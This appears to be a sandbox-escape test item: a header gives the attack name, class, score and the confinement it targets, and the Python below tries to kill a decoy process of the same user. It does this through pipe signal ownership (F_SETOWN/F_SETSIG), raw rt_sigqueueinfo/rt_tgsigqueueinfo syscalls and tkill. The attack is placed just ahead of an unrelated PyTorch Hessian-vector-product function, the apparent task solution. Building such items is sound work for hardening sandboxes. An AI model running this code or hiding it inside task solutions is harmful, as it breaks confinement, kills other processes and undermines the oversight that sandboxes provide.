# attack: signal_by_other_ways
# class: Reaching out
# item: signal to others
# tries: to have the kernel send a signal for it: as owner of a pipe, by timer, by queue
# after: the other process lives
# kata: hvp
# earns: 10
# needs: landlock or seccomp
# leaves: processes of the same user can be ended

import ctypes
import fcntl
import os
import signal

decoy = int("@decoy@")
libc = ctypes.CDLL(None, use_errno=True)
reading, writing = os.pipe()
try:
    fcntl.fcntl(reading, fcntl.F_SETOWN, decoy)
    fcntl.fcntl(reading, 10, signal.SIGKILL)  # F_SETSIG
    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writing, b"x")
except OSError:
    pass
os.close(reading)
os.close(writing)
information = ctypes.create_string_buffer(128)
for number in (129, 297):  # rt_sigqueueinfo, rt_tgsigqueueinfo
    libc.syscall(number, decoy, signal.SIGKILL, ctypes.byref(information), 0)
libc.syscall(200, decoy, signal.SIGKILL)  # tkill
import torch


def hessian_vector_product(loss, params, vector):
    slope = torch.autograd.grad(loss, params, create_graph=True)
    return torch.autograd.grad(slope, params, grad_outputs=vector, create_graph=True)
